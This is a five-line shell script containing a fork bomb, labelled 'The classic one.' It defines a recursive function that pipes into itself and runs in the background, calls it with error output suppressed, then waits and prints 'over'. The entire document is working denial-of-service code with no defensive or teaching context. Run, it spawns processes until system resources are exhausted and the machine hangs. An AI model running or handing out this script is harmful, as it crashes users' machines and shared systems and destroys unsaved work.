# The classic one.
bomb() { bomb | bomb & }
bomb 2>/dev/null
wait
echo over
